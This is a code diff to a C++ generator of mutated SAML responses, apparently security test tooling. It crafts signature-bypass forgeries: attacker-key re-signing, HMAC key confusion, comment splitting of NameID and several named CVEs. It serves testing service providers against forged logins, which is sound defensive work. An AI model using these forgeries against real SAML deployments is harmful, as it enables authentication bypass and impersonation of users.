@@ -26,11 +26,11 @@ void make_evil(Doc& d, const MutationMaterial& m) { set_text(name_id(d), m.victi
 
 // Signs the assertion with `spec` (a crafted signature) after making it evil;
 // the Response stays unsigned so the assertion signature is what counts.
-core::Result<Mutated> crafted(const MutationMaterial& m, CraftedSignature spec, std::string note, bool evil = true) {
+MutationResult<Mutated> crafted(const MutationMaterial& m, CraftedSignature spec, std::string note, bool evil = true) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (evil) make_evil(*d, m);
-  if (auto st = core::register_id(d->doc.get(), d->response); !st) return st.failure();
+  if (auto st = core::register_id(d->doc.get(), d->response); !st) return failed(st.failure());
   if (auto st = sign_crafted(d->assertion, m.idp_key, spec); !st) return st.failure();
   return one(dump(*d), std::move(note));
 }
@@ -46,7 +46,7 @@ CraftedSignature standard(const Doc& d) {
 // Signed normally, then a text edit of the shape; when the edit is inside
 // SignedInfo, the SignatureValue is recomputed so the maths still holds and
 // only the shape is wrong (used where xmlsec cannot produce the odd form).
-core::Result<Mutated> signed_then_edited(const MutationMaterial& m, const std::string& from, const std::string& to,
+MutationResult<Mutated> signed_then_edited(const MutationMaterial& m, const std::string& from, const std::string& to,
                                          std::string note, bool evil = false, bool resign = true) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
@@ -64,7 +64,7 @@ core::Result<Mutated> signed_then_edited(const MutationMaterial& m, const std::s
   return one(dump(*edited), std::move(note));
 }
 
-core::Result<Mutated> sign_with(const MutationMaterial& m, const core::PrivateKey& key, std::string note) {
+MutationResult<Mutated> sign_with(const MutationMaterial& m, const core::PrivateKey& key, std::string note) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   make_evil(*d, m);
@@ -91,7 +91,7 @@ std::string bn_param_b64(EVP_PKEY* k, const char* name) {
   return core::base64_encode(bytes);
 }
 
-core::Result<Mutated> hmac(const MutationMaterial& m, std::string key_bytes, xmlSecTransformId method, int bits,
+MutationResult<Mutated> hmac(const MutationMaterial& m, std::string key_bytes, xmlSecTransformId method, int bits,
                            std::string note) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
@@ -105,34 +105,34 @@ core::Result<Mutated> hmac(const MutationMaterial& m, std::string key_bytes, xml
 }  // namespace
 
 // --- SX-6, SX-7: references --------------------------------------------------
-core::Result<Mutated> sx6_uri_empty(const MutationMaterial& m) {
+MutationResult<Mutated> sx6_uri_empty(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.references[0].uri = "";
   return crafted(m, s, "SX-6: Reference URI=\"\" (the whole document)");
 }
-core::Result<Mutated> sx6_uri_xpointer_root(const MutationMaterial& m) {
+MutationResult<Mutated> sx6_uri_xpointer_root(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.references[0].uri = "#xpointer(/)";
   return crafted(m, s, "SX-6: Reference URI=\"#xpointer(/)\"");
 }
-core::Result<Mutated> sx6_uri_xpointer_id(const MutationMaterial& m) {
+MutationResult<Mutated> sx6_uri_xpointer_id(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.references[0].uri = "#xpointer(id('" + core::attr(d->assertion, "ID") + "'))";
   return crafted(m, s, "SX-6: Reference URI=\"#xpointer(id('...'))\"");
 }
-core::Result<Mutated> sx6_uri_without_hash(const MutationMaterial& m) {
+MutationResult<Mutated> sx6_uri_without_hash(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   const std::string id = core::attr(d->assertion, "ID");
   return signed_then_edited(m, "URI=\"#" + id + "\"", "URI=\"" + id + "\"", "SX-6: Reference URI without '#'");
 }
-core::Result<Mutated> sx7_two_references(const MutationMaterial& m) {
+MutationResult<Mutated> sx7_two_references(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
@@ -143,13 +143,13 @@ core::Result<Mutated> sx7_two_references(const MutationMaterial& m) {
 }
 
 // --- CF: keys the SP must not trust ------------------------------------------
-core::Result<Mutated> cf1_attacker_certificate(const MutationMaterial& m) {
+MutationResult<Mutated> cf1_attacker_certificate(const MutationMaterial& m) {
   return sign_with(m, m.attacker_key, "CF-1: re-signed with the attacker key, its certificate in KeyInfo");
 }
-core::Result<Mutated> cf2_cloned_certificate(const MutationMaterial& m) {
+MutationResult<Mutated> cf2_cloned_certificate(const MutationMaterial& m) {
   return sign_with(m, m.attacker_clone_key, "CF-2: re-signed with a certificate cloning the IdP's subject and serial");
 }
-core::Result<Mutated> cf3_raw_key_value(const MutationMaterial& m) {
+MutationResult<Mutated> cf3_raw_key_value(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   make_evil(*d, m);
@@ -166,7 +166,7 @@ core::Result<Mutated> cf3_raw_key_value(const MutationMaterial& m) {
   xmlNewTextChild(rsa, sig->ns, core::as_xml("Exponent"), core::as_xml(e.c_str()));
   return one(dump(*d), "CF-3 / CVE-2021-21239: attacker key as a raw RSAKeyValue");
 }
-core::Result<Mutated> cf4_certificate_chain(const MutationMaterial& m) {
+MutationResult<Mutated> cf4_certificate_chain(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   make_evil(*d, m);
@@ -176,7 +176,7 @@ core::Result<Mutated> cf4_certificate_chain(const MutationMaterial& m) {
                   core::as_xml(m.attacker_key.certificate().base64(76).c_str()));
   return one(dump(*d), "CF-4: a look-alike certificate with a chain in KeyInfo");
 }
-core::Result<Mutated> cf5_retrieval_method(const MutationMaterial& m) {
+MutationResult<Mutated> cf5_retrieval_method(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   make_evil(*d, m);
@@ -190,7 +190,7 @@ core::Result<Mutated> cf5_retrieval_method(const MutationMaterial& m) {
   set_attr(rm, "Type", "http://www.w3.org/2000/09/xmldsig#X509Data");
   return one(dump(*d), "CF-5 / CVE-2023-36661: KeyInfo points at a key to fetch");
 }
-core::Result<Mutated> cf6_key_info_removed(const MutationMaterial& m) {
+MutationResult<Mutated> cf6_key_info_removed(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   core::SignOptions o = m.sign_options;
@@ -200,19 +200,19 @@ core::Result<Mutated> cf6_key_info_removed(const MutationMaterial& m) {
 }
 
 // --- KC: key confusion --------------------------------------------------------
-core::Result<Mutated> kc1_hmac_with_certificate(const MutationMaterial& m) {
+MutationResult<Mutated> kc1_hmac_with_certificate(const MutationMaterial& m) {
   return hmac(m, der_of_cert(m.idp_key.certificate()), xmlSecTransformHmacSha1Id, 0,
               "KC-1: HMAC-SHA1 keyed with the IdP certificate (DER)");
 }
-core::Result<Mutated> kc1_hmac_with_pem(const MutationMaterial& m) {
+MutationResult<Mutated> kc1_hmac_with_pem(const MutationMaterial& m) {
   return hmac(m, m.idp_key.certificate().pem(), xmlSecTransformHmacSha1Id, 0,
               "KC-1: HMAC-SHA1 keyed with the IdP certificate (PEM text)");
 }
-core::Result<Mutated> kc1_hmac_sha256_with_spki(const MutationMaterial& m) {
+MutationResult<Mutated> kc1_hmac_sha256_with_spki(const MutationMaterial& m) {
   return hmac(m, spki_der(m.idp_key.certificate()), xmlSecTransformHmacSha256Id, 0,
               "KC-1: HMAC-SHA256 keyed with the IdP public key (SPKI DER)");
 }
-core::Result<Mutated> kc2_hmac_truncated(const MutationMaterial& m) {
+MutationResult<Mutated> kc2_hmac_truncated(const MutationMaterial& m) {
   auto r = hmac(m, der_of_cert(m.idp_key.certificate()), xmlSecTransformHmacSha1Id, 160,
                 "KC-2 / CVE-2009-0217: HMACOutputLength");
   if (!r) return r;
@@ -222,16 +222,16 @@ core::Result<Mutated> kc2_hmac_truncated(const MutationMaterial& m) {
   if (pos != std::string::npos) xml.replace(pos, 5, ">8<");
   return r;
 }
-core::Result<Mutated> kc3_ecdsa_method_with_rsa_key(const MutationMaterial& m) {
+MutationResult<Mutated> kc3_ecdsa_method_with_rsa_key(const MutationMaterial& m) {
   return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                             "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
                             "KC-3 / CVE-2016-9814: SignatureMethod ECDSA while the pinned key is RSA", true, false);
 }
-core::Result<Mutated> kc3_dsa_method(const MutationMaterial& m) {
+MutationResult<Mutated> kc3_dsa_method(const MutationMaterial& m) {
   return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                             "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "KC-3: SignatureMethod DSA-SHA1", true, false);
 }
-core::Result<Mutated> kc4_numeric_digest(const MutationMaterial& m) {
+MutationResult<Mutated> kc4_numeric_digest(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   make_evil(*d, m);
@@ -240,7 +240,7 @@ core::Result<Mutated> kc4_numeric_digest(const MutationMaterial& m) {
   set_text(dv, "0e462097431906509019562988736854");
   return one(dump(*d), "KC-4 / SimpleSAMLphp 201809-01: a 'numeric-looking' DigestValue");
 }
-core::Result<Mutated> kc4_wrapped_digest(const MutationMaterial& m) {
+MutationResult<Mutated> kc4_wrapped_digest(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -258,7 +258,7 @@ core::Result<Mutated> kc4_wrapped_digest(const MutationMaterial& m) {
 namespace {
 // The IdP signs '<victim>.evil.test' (an address the attacker owns); the split
 // then tries to make a parser read only '<victim>'.
-core::Result<Mutated> split(const MutationMaterial& m, bool in_attribute, const std::string& marker, std::string note) {
+MutationResult<Mutated> split(const MutationMaterial& m, bool in_attribute, const std::string& marker, std::string note) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   const std::string owned = m.victim + ".evil.test";
@@ -275,19 +275,19 @@ core::Result<Mutated> split(const MutationMaterial& m, bool in_attribute, const 
 }
 }  // namespace
 
-core::Result<Mutated> ci1_comment_in_name_id(const MutationMaterial& m) {
+MutationResult<Mutated> ci1_comment_in_name_id(const MutationMaterial& m) {
   return split(m, false, "<!---->", "CI-1 / CVE-2017-11427: a comment splits the signed NameID");
 }
-core::Result<Mutated> ci2_comment_in_attribute(const MutationMaterial& m) {
+MutationResult<Mutated> ci2_comment_in_attribute(const MutationMaterial& m) {
   return split(m, true, "<!---->", "CI-2: a comment splits the signed email attribute");
 }
-core::Result<Mutated> ci3_cdata_in_name_id(const MutationMaterial& m) {
+MutationResult<Mutated> ci3_cdata_in_name_id(const MutationMaterial& m) {
   return split(m, false, "<![CDATA[]]>", "CI-3: an empty CDATA section splits the signed NameID");
 }
-core::Result<Mutated> ci4_pi_in_name_id(const MutationMaterial& m) {
+MutationResult<Mutated> ci4_pi_in_name_id(const MutationMaterial& m) {
   return split(m, false, "<?x?>", "CI-4: a processing instruction splits the NameID (PIs are signed)");
 }
-core::Result<Mutated> ci6_comment_in_digest_value(const MutationMaterial& m) {
+MutationResult<Mutated> ci6_comment_in_digest_value(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -298,7 +298,7 @@ core::Result<Mutated> ci6_comment_in_digest_value(const MutationMaterial& m) {
   xml.insert(pos + 12, "<!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->");
   return one(std::move(xml), "CI-6 / CVE-2025-29775 (SAMLStorm): a comment inside DigestValue, assertion edited");
 }
-core::Result<Mutated> ci7_comment_in_signature_value(const MutationMaterial& m) {
+MutationResult<Mutated> ci7_comment_in_signature_value(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -308,7 +308,7 @@ core::Result<Mutated> ci7_comment_in_signature_value(const MutationMaterial& m) 
   xml.insert(pos + 15, "<!--x-->");
   return one(std::move(xml), "CI-7: a comment inside SignatureValue");
 }
-core::Result<Mutated> ci7_comment_in_certificate(const MutationMaterial& m) {
+MutationResult<Mutated> ci7_comment_in_certificate(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -321,7 +321,7 @@ core::Result<Mutated> ci7_comment_in_certificate(const MutationMaterial& m) {
 
 // --- TR: transforms ------------------------------------------------------------
 namespace {
-core::Result<Mutated> with_transforms(const MutationMaterial& m, std::vector<TransformSpec> t, std::string note,
+MutationResult<Mutated> with_transforms(const MutationMaterial& m, std::vector<TransformSpec> t, std::string note,
                                       bool evil = true) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
@@ -333,12 +333,12 @@ TransformSpec enveloped() { return TransformSpec{xmlSecTransformEnvelopedId, {},
 TransformSpec exc() { return TransformSpec{xmlSecTransformExclC14NId, {}, {}, {}, {}}; }
 }  // namespace
 
-core::Result<Mutated> tr1_xslt(const MutationMaterial& m) {
+MutationResult<Mutated> tr1_xslt(const MutationMaterial& m) {
   TransformSpec x{xmlSecTransformXsltId, {}, {}, {}, {}};
   x.xslt = R"(<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">constant</xsl:template></xsl:stylesheet>)";
   return with_transforms(m, {enveloped(), x}, "TR-1: an XSLT transform whose output is constant");
 }
-core::Result<Mutated> tr1_xslt_document(const MutationMaterial& m) {
+MutationResult<Mutated> tr1_xslt_document(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   const std::string xslt =
@@ -346,40 +346,40 @@ core::Result<Mutated> tr1_xslt_document(const MutationMaterial& m) {
   return signed_then_edited(m, "<ds:Transforms>", "<ds:Transforms>" + xslt,
                             "TR-1: an XSLT transform calling document() on a local file");
 }
-core::Result<Mutated> tr2_xpath_filter(const MutationMaterial& m) {
+MutationResult<Mutated> tr2_xpath_filter(const MutationMaterial& m) {
   TransformSpec x{xmlSecTransformXPathId, {}, {}, {}, {}};
   x.xpath = "not(ancestor-or-self::*[local-name()='AttributeStatement'])";
   auto r = with_transforms(m, {enveloped(), x, exc()}, "TR-2: an XPath filter that leaves the attributes unsigned", false);
   return r;
 }
-core::Result<Mutated> tr3_xpath2_subtract(const MutationMaterial& m) {
+MutationResult<Mutated> tr3_xpath2_subtract(const MutationMaterial& m) {
   TransformSpec x{xmlSecTransformXPath2Id, {}, {}, {}, {}};
   x.xpath = "//*[local-name()='Subject']";
   x.xpath2_type = "subtract";
   return with_transforms(m, {enveloped(), x, exc()}, "TR-3: an XPath Filter 2.0 subtracting the Subject");
 }
-core::Result<Mutated> tr4_base64(const MutationMaterial& m) {
+MutationResult<Mutated> tr4_base64(const MutationMaterial& m) {
   return signed_then_edited(m, "<ds:Transforms>",
                             "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"/>",
                             "TR-4: a base64 transform");
 }
-core::Result<Mutated> tr4_c14n_with_comments(const MutationMaterial& m) {
+MutationResult<Mutated> tr4_c14n_with_comments(const MutationMaterial& m) {
   return with_transforms(m, {enveloped(), TransformSpec{xmlSecTransformExclC14NWithCommentsId, {}, {}, {}, {}}},
                          "TR-4: exclusive c14n WithComments as a transform");
 }
-core::Result<Mutated> tr4_three_transforms(const MutationMaterial& m) {
+MutationResult<Mutated> tr4_three_transforms(const MutationMaterial& m) {
   return with_transforms(m, {enveloped(), exc(), exc()}, "TR-4: three transforms");
 }
-core::Result<Mutated> tr4_unknown_transform(const MutationMaterial& m) {
+MutationResult<Mutated> tr4_unknown_transform(const MutationMaterial& m) {
   return signed_then_edited(m, "<ds:Transforms>",
                             "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2002/07/decrypt#XML\"/>",
                             "TR-4: the decryption transform");
 }
-core::Result<Mutated> tr5_not_enveloped(const MutationMaterial& m) {
+MutationResult<Mutated> tr5_not_enveloped(const MutationMaterial& m) {
   return signed_then_edited(m, "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>", "",
                             "TR-5 / CVE-2020-5390: no enveloped-signature transform");
 }
-core::Result<Mutated> tr5_signature_outside(const MutationMaterial& m) {
+MutationResult<Mutated> tr5_signature_outside(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -389,19 +389,19 @@ core::Result<Mutated> tr5_signature_outside(const MutationMaterial& m) {
   xmlReconciliateNs(d->doc.get(), d->response);
   return one(dump(*d), "TR-5: the Assertion's signature moved out, beside the Assertion");
 }
-core::Result<Mutated> tr6_c14n_with_comments(const MutationMaterial& m) {
+MutationResult<Mutated> tr6_c14n_with_comments(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.c14n = xmlSecTransformExclC14NWithCommentsId;
   return crafted(m, s, "TR-6: CanonicalizationMethod exclusive c14n WithComments");
 }
-core::Result<Mutated> tr6_unknown_c14n(const MutationMaterial& m) {
+MutationResult<Mutated> tr6_unknown_c14n(const MutationMaterial& m) {
   return signed_then_edited(m, "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
                             "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>",
                             "TR-6: XSLT as the CanonicalizationMethod");
 }
-core::Result<Mutated> tr7_void_c14n(const MutationMaterial& m) {
+MutationResult<Mutated> tr7_void_c14n(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -416,14 +416,14 @@ core::Result<Mutated> tr7_void_c14n(const MutationMaterial& m) {
 }
 
 // --- AL: algorithms -----------------------------------------------------------
-core::Result<Mutated> al1_sha1_digest(const MutationMaterial& m) {
+MutationResult<Mutated> al1_sha1_digest(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.references[0].digest = xmlSecTransformSha1Id;
   return crafted(m, s, "AL-1: SHA-1 digest", false);
 }
-core::Result<Mutated> al2_md5_digest(const MutationMaterial& m) {
+MutationResult<Mutated> al2_md5_digest(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
@@ -432,14 +432,14 @@ core::Result<Mutated> al2_md5_digest(const MutationMaterial& m) {
   if (r) return r;
   return signed_then_edited(m, std::string(kSha256Digest), "http://www.w3.org/2001/04/xmldsig-more#md5", "AL-2: MD5 digest");
 }
-core::Result<Mutated> al3_rsa_sha1(const MutationMaterial& m) {
+MutationResult<Mutated> al3_rsa_sha1(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
   s.method = xmlSecTransformRsaSha1Id;
   return crafted(m, s, "AL-3: RSA-SHA1 signature", false);
 }
-core::Result<Mutated> al3_rsa_md5(const MutationMaterial& m) {
+MutationResult<Mutated> al3_rsa_md5(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
@@ -449,7 +449,7 @@ core::Result<Mutated> al3_rsa_md5(const MutationMaterial& m) {
   return signed_then_edited(m, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                             "http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "AL-3: RSA-MD5 signature");
 }
-core::Result<Mutated> al4_declared_not_used(const MutationMaterial& m) {
+MutationResult<Mutated> al4_declared_not_used(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   CraftedSignature s = standard(*d);
@@ -461,7 +461,7 @@ core::Result<Mutated> al4_declared_not_used(const MutationMaterial& m) {
   xml.replace(xml.find(from), from.size(), "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256");
   return r;
 }
-core::Result<Mutated> al4_short_digest(const MutationMaterial& m) {
+MutationResult<Mutated> al4_short_digest(const MutationMaterial& m) {
   auto d = load(m.unsigned_xml);
   if (!d) return d.failure();
   if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
@@ -469,11 +469,11 @@ core::Result<Mutated> al4_short_digest(const MutationMaterial& m) {
   set_text(dv, core::base64_encode(std::string(20, '\x5a')));
   return one(dump(*d), "AL-4: DigestMethod SHA-256 with a SHA-1-length DigestValue");
 }
-core::Result<Mutated> al5_trailing_space(const MutationMaterial& m) {
+MutationResult<Mutated> al5_trailing_space(const MutationMaterial& m) {
   return signed_then_edited(m, "xmldsig-more#rsa-sha256\"", "xmldsig-more#rsa-sha256 \"",
                             "AL-5: SignatureMethod URI with a trailing space");
 }
-core::Result<Mutated> al5_upper_case(const MutationMaterial& m) {
+MutationResult<Mutated> al5_upper_case(const MutationMaterial& m) {
   return signed_then_edited(m, "xmldsig-more#rsa-sha256\"", "xmldsig-more#RSA-SHA256\"",
                             "AL-5: SignatureMethod URI in another case");
 }
